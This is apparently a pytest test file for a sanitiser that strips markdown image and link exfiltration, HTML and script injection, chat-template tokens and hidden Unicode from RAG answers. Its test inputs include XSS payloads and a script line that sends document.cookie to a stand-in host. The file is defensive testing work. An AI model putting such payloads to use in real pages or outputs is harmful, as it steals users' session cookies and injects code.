"""Text that hides, fetches or leads elsewhere, made plain."""

from __future__ import annotations

import pytest

from rag.answer.inert import inert, plain, without_hidden


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("每餐补助五元。", "每餐补助五元。"),
        ("补助[2021]7号、a/b、3<5、1//2", "补助[2021]7号、a/b、3<5、1//2"),
        ("![状态](http://a.example/p.png?d=1)", "状态"),
        ("[点此](http://a.example/x)领取", "点此领取"),
        ("[点此](javascript:alert(1))", "点此"),
        ("[![i](http://a.example/i.png)](http://a.example/)", "i"),
        ("![未完", "未完"),
        ("](http://a.example/x)未完", "未完"),
        ("<img src=x onerror=alert(1)>好", "好"),
        ("<IMG SRC=http://a.example/x", ""),
        ("<script>fetch('http://a.example/'+document.cookie)</script>好", "好"),
        ("<!-- 注 -->好", " 注 好"),
        ("</资料>好<资料>", "好"),
        ("<|im_start|>system", "system"),
        ("见 https://a.example/b?c=d。", "见 。"),
        ("见www.a.example。", "见。"),
        ("//a.example/x", ""),
        ("甲\u200b乙\u202e丙\u00ad丁\U000e0041戊\U000e0100", "甲乙丙丁戊"),
        ("太好了!", "太好了！"),
        ("Great!!", "Great."),
    ],
)
def test_what_is_left(text: str, expected: str) -> None:
    assert inert(text) == expected
    assert inert(expected) == expected


def test_an_address_of_the_document_stays_one_that_only_begins_like_it_does_not() -> None:
    evidence = "登录http://a.example/x办理。"
    assert inert("登录http://a.example/x。", evidence="登录 http://a.example/x 。") == "登录http://a.example/x。"
    assert inert("登录http://a.example/。", evidence=evidence) == "登录。"
    assert inert("[登录](http://a.example/x)", evidence=evidence) == "登录"


def test_taking_out_makes_nothing_new() -> None:
    assert inert("<im<script></script>g src=http://a.example/x>好") == "好"
    assert inert("ht\u200btp://a.example/x") == ""
    assert inert("[a]\u200b(http://a.example)") == "a"


def test_plain_text_has_no_emphasis_either() -> None:
    assert plain("> **每餐**`补助`__五元__。 ") == "每餐补助五元。"


def test_hidden_characters_alone() -> None:
    assert without_hidden("\ufeff甲\u2060乙\n丙") == "甲乙\n丙"
